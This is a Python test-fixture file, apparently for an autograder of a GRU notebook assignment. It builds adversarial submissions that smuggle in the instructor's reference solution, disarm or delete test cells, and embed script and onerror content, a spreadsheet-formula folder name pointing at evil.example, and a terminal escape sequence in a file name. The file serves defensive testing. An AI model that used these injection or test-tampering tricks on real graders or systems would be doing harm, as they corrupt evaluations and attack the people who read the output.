         lambda ctx: with_solution(ctx.solved, "gru_forward", GETATTR_MODULES), 6),
    Case("torch-in-dict", "gru_cell_forward uses torch kept in a dict",
         lambda ctx: with_solution(ctx.solved, "gru_cell_forward", TORCH_IN_DICT), 6, flags=("policy:",)),
    Case("except-as", "the reference smuggled through except ... as e",
         lambda ctx: with_solution(ctx.solved, "gru_cell_forward_cho", EXCEPT_AS), 8, flags=("policy:",)),
    Case("time-magic", "%%time around an answer cell that uses the reference",
         lambda ctx: with_solution(ctx.solved, "gru_cell_forward", TIME_MAGIC), 6),
    Case("timeit-options", "%timeit -n1 -r1 imports the reference, the answer uses it",
         lambda ctx: with_solution(with_cell(ctx.solved, TIMEIT_OPTIONS, name="timeit"), "gru_cell_forward",
                                   TIMEIT_ANSWER), 6),
    Case("helper-file", "a helper .py next to the notebook imports the reference",
         lambda ctx: with_solution(ctx.solved, "gru_cell_forward", HELPER_ANSWER), 6, files=(HELPER_FILE,)),
    Case("near-copy", "a near-copy of the instructor's torch cell computes the answer",
         lambda ctx: with_solution(ctx.solved, "gru_cell_forward", NEAR_COPY), 6, flags=("policy:",)),
    Case("deep-expression", "a 5,000-term expression (too deep to review) plus the reference",
         lambda ctx: with_solution(ctx.solved, "gru_cell_forward", DEEP_AND_REFERENCE), 6,
         flags=("policy:unreviewable",)),
    # run killers, output floods, the instructor's side
    Case("metadata-flood", "25 displays of \".\" carrying 2 MB of metadata each", _cell(METADATA_FLOOD, "flood"), 10),
    Case("active-content", "<script>, onerror= and a Javascript output in the notebook", lambda ctx: with_cell(
        _with_markdown(ctx, ACTIVE_MARKDOWN), ACTIVE_CONTENT, name="active"), 10, evidence="SCRIPT-RAN"),
    Case("formula-name", "the hand-in folder is named =HYPERLINK(...)", lambda ctx: ctx.solved, 10,
         folder='=HYPERLINK("evil.example","click me")'),
    Case("collision-space", "two folders, \"victim x\" and \"victim_x\": the first", lambda ctx: ctx.solved, 10,
         folder="victim x"),
    Case("collision-underscore", "two folders, \"victim x\" and \"victim_x\": the second",
         lambda ctx: all_wrong(ctx.solved), 0, folder="victim_x"),
    Case("escape-name", "an escape sequence in the notebook's file name", lambda ctx: ctx.solved, 10,
         flags=("renamed-notebook",), notebook_file="\x1b[2Jgru_numpy.ipynb"),
    Case("surrogate-error", "gru_forward raises ValueError with a lone surrogate and an escape sequence",
         lambda ctx: with_solution(ctx.solved, "gru_forward", SURROGATE_ERROR), 6),
    # honest habits: full marks; the review may report them (policy flags cost nothing)
    *(Case(name, f"honest habit: {source.splitlines()[0]}", _cell(source, name.removeprefix("habit-")), 10,
           reviewed=True) for name, source in HABITS.items()),
    Case("habit-time-answer", "honest habit: %%time around the answer cell", _prefixed_answer("%%time\n"), 10,
         reviewed=True),
    Case("habit-unused-torch", "honest habit: an unused import torch in the answer cell",
         _prefixed_answer("import torch  # for my own comparison later\n"), 10, reviewed=True),
    Case("habit-helper-file", "honest habit: its own sigmoid in a helper .py next to the notebook",
         _prefixed_answer("from mygates import sigmoid\n"), 10, reviewed=True, files=(HABIT_HELPER_FILE,)),
    Case("habit-course-helper", "honest habit: the declared helper coursekit.activations.sigmoid",
         _prefixed_answer("from coursekit.activations import sigmoid\n"), 10, reviewed=True),
    # broken or misdirected files
    Case("truncated-json", "the notebook file cut in half", _truncated, 0, status="error", flags=("not-json",)),
    Case("other-assignment", "the solved notebook of 01-gru-concept, handed in for 02", _other_assignment, 0,
         status="error", flags=("wrong-assignment",)),
    Case("duplicated-ids", "a fake copy of a test cell (same id) that disarms the function, before the real one",
         _duplicated_ids, 10, flags=("restored-locked", "duplicate-cell")),
    Case("edited-tests", "wrong gru_forward; its test cell emptied and stripped of metadata, another deleted",
         _edited_tests, 6, flags=("restored-metadata", "restored-locked", "restored-deleted")),
)

BY_NAME = {case.name: case for case in CASES}
BY_STUDENT = {case.student: case for case in CASES}


def context(root, repo, port=9):
    """The Context of a course root whose course/ and solutions/ hold 02 (and, for one case, 01 from ``repo``)."""
    read = lambda path: nbformat.read(path, as_version=4)  # noqa: E731
    other = "01-gru-concept"
    return Context(root=Path(root), released=read(Path(root) / "course" / ASSIGNMENT / f"{NOTEBOOK}.ipynb"),
                   instructor=read(Path(root) / "solutions" / ASSIGNMENT / f"{NOTEBOOK}.ipynb"),
                   other_released=read(Path(repo) / "course" / other / "gru_concept.ipynb"),
                   other_instructor=read(Path(repo) / "solutions" / other / "gru_concept.ipynb"), port=port)


def write_submissions(ctx, folder, cases=CASES):
    """<folder>/<student>/gru_numpy.ipynb (and the case's other files) for each case; returns the folder."""
    folder = Path(folder)
    for case in cases:
        built = case.build(ctx)
        path = folder / case.student / (case.notebook_file or f"{NOTEBOOK}.ipynb")
        path.parent.mkdir(parents=True, exist_ok=True)
        # as JSON, not nbformat.write, which would repair what the case broke (e.g. duplicated cell ids)
        path.write_bytes(built if isinstance(built, bytes) else json.dumps(built, indent=1).encode())
        for relative, text in case.files:
            (path.parent / relative).write_text(text)
    return folder
